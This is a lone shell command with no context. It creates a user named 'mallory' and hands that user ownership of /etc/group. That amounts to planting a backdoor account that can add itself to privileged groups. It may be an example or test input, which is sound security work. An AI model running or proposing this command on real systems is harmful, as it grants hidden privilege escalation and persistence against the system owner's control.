useradd -M mallory && chown mallory /etc/group
